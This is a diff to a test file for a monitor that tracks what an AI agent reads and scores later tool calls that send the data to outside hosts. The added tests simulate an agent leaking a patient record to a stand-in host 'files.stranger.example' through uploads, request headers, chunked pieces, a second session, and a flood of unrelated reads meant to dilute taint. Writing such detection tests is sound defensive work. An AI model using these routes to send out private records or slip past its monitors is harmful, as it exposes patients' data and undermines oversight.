@@ -7,6 +7,7 @@ import type { Policy } from "../policy/policy.ts";
 import { scanParts } from "../scan/mod.ts";
 import type { ToolCall } from "../types.ts";
 import { Correlation, createCorrelation, MAX_FLOWS } from "./correlation.ts";
+import { HANDOVER_WINDOW_MS } from "./handover.ts";
 import { hashKeyOf } from "./hash_key.ts";
 import { MAX_READS, READ_WINDOW_MS } from "./session_memory.ts";
 import type { SessionReadStore, StoredReading } from "./stored_reading.ts";
@@ -84,14 +85,19 @@ class Run {
 
   /** What reading says about a call that is about to be made. */
   async ask(tool: string, args: unknown, options: CallOptions = {}): Promise<SessionFacts> {
+    return sessionOf(await this.told(tool, args, options));
+  }
+
+  async told(tool: string, args: unknown, options: CallOptions = {}): Promise<CallerFacts> {
     const { judgement } = await this.#engine.explain(callOf(tool, args, options));
-    return sessionOf(judgement.facts.caller ?? {});
+    return judgement.facts.caller ?? {};
   }
 }
 
 interface CallOptions {
   readonly context?: string;
   readonly session?: string;
+  readonly headers?: ToolCall["headers"];
 }
 
 function sessionOf({ session }: CallerFacts): SessionFacts {
@@ -99,7 +105,11 @@ function sessionOf({ session }: CallerFacts): SessionFacts {
 }
 
 /** A tool by name, or an HTTP call when the name is `METHOD URL`. */
-function callOf(tool: string, args: unknown, { context, session = "s" }: CallOptions): ToolCall {
+function callOf(
+  tool: string,
+  args: unknown,
+  { context, session = "s", headers = [] }: CallOptions,
+): ToolCall {
   const [method = "POST", url = ""] = tool.includes(" ") ? tool.split(" ") : ["POST", `mcp://tools/${tool}`];
   const body = method === "GET" ? null : {
     bytes: ENCODER.encode(JSON.stringify(args)),
@@ -110,7 +120,7 @@ function callOf(tool: string, args: unknown, { context, session = "s" }: CallOpt
     door: "mcp",
     method,
     url,
-    headers: [],
+    headers,
     body,
     agentId: "agent",
     sessionId: session,
@@ -290,10 +300,76 @@ Deno.test("what was read a day ago, or many reads ago, says nothing any more", a
   assert.ok((await ask()).taint > 0.5);
   run.now += 1;
   assert.equal((await ask()).taint, 0);
-  const patient = new Run();
-  await patient.read("get_patient_record", RECORD);
-  for (let i = 0; i < MAX_READS; i++) await patient.read("get_time", `tick ${i}`);
-  assert.equal((await patient.ask("POST https://files.stranger.example/up", { text: RECORD })).overlap, 0);
+  const reader = new Run();
+  const page =
+    "The harbour of the old town was dug by hand, and its walls were laid with stones from the hills.";
+  await reader.read("fetch_page", page);
+  assert.ok((await reader.ask(UPLOAD, { text: page })).overlap > 0.2);
+  for (let i = 0; i < MAX_READS; i++) await reader.read("get_time", `tick ${i}`);
+  assert.equal((await reader.ask(UPLOAD, { text: page })).overlap, 0);
+});
+
+const UPLOAD = "POST https://files.stranger.example/up";
+
+Deno.test("a sensitive read is not washed out by a flood of others", async () => {
+  const run = new Run();
+  await run.read("get_patient_record", RECORD);
+  for (let i = 0; i < 3 * MAX_READS; i++) await run.read("get_time", `tick ${i}`);
+  for (let page = 0; page < 6; page++) {
+    const words = Array.from({ length: 5_000 }, (_, i) => (i * 7919 + page * 104729).toString(36).repeat(3));
+    await run.read("fetch_page", words.join(" "));
+  }
+  assert.ok((await run.ask(UPLOAD, { text: RECORD })).overlap >= 0.5);
+});
+
+Deno.test("a sensitive record is seen as names of fields, as a list of its words, and in any header that an agent may write", async () => {
+  const run = new Run();
+  await run.read("get_patient_record", RECORD);
+  assert.ok((await run.ask(UPLOAD, { [RECORD]: 1 })).overlap >= 0.5);
+  assert.ok((await run.ask(UPLOAD, { words: RECORD.split(" ") })).overlap >= 0.5);
+  for (const name of ["user-agent", "x-request-id", "x-amz-meta-note", "from"]) {
+    const { overlap } = await run.ask(UPLOAD, {}, { headers: [[name, RECORD]] });
+    assert.ok(overlap >= 0.5, name);
+  }
+  const client = await run.ask(UPLOAD, {}, { headers: [["authorization", `Bearer ${btoa(RECORD)}`]] });
+  assert.equal(client.overlap, 0);
+});
+
+Deno.test("a sensitive record that leaves for one place in pieces overlaps before the last of them has gone", async () => {
+  const run = new Run();
+  await run.read("get_patient_record", RECORD);
+  const pieces = RECORD.match(/.{1,45}/g) ?? [];
+  const overlaps: number[] = [];
+  for (const text of pieces) {
+    overlaps.push((await run.ask(UPLOAD, { text })).overlap);
+    await run.read(UPLOAD, "ok", { args: { text } });
+  }
+  assert.ok(overlaps.slice(0, -1).some((overlap) => overlap >= 0.5), overlaps.join());
+  const elsewhere = await run.ask("POST https://other.stranger.example/up", { text: pieces.at(-1) });
+  assert.ok(elsewhere.overlap < 0.5, String(elsewhere.overlap));
+});
+
+Deno.test("what goes back to the very host that gave it is half an overlap, and whole at any other", async () => {
+  const run = new Run();
+  await run.read("GET https://crm.house.example/patients/7", RECORD);
+  const changed = { note: `${RECORD} Called today.` };
+  assert.ok((await run.ask("PUT https://crm.house.example/patients/7", changed)).overlap < 0.5);
+  assert.ok((await run.ask("PUT https://crm.stranger.example/patients/7", changed)).overlap >= 0.5);
+});
+
+Deno.test("a sensitive record that another session sends out is a handover, for an hour, with the trace of the read", async () => {
+  const run = new Run();
+  const trace = await run.read("get_patient_record", RECORD, { session: "reader" });
+  const handed = async (tool: string, args: unknown, session = "writer") =>
+    (await run.told(tool, args, { session })).sequences ?? [];
+  const [match] = await handed(UPLOAD, { text: RECORD });
+  assert.equal(match?.name, "value_handover");
+  assert.deepEqual(match?.traceIds, [trace]);
+  assert.deepEqual(await handed(UPLOAD, { text: RECORD }, "reader"), []);
+  assert.deepEqual(await handed(UPLOAD, { text: "The weather was fine all week in the mountains." }), []);
+  assert.deepEqual(await handed("update_patient_record", { text: RECORD }), []);
+  run.now += HANDOVER_WINDOW_MS + 1;
+  assert.deepEqual(await handed(UPLOAD, { text: RECORD }), []);
 });
 
 /** A store in memory, as the one in a file behaves. */
